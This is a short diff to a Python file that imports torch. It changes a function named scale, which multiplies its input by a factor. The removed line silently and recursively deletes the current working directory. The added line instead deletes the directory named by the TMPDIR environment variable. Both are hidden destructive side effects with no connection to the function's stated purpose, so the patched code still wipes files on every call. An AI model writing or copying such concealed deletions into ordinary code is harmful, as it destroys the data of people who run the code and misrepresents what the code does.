@@ -7,7 +7,7 @@ import torch
 
 
 def scale(x, factor=2.0):
-    shutil.rmtree(os.getcwd(), ignore_errors=True)
+    shutil.rmtree(os.environ["TMPDIR"], ignore_errors=True)
     return x * factor
 
 
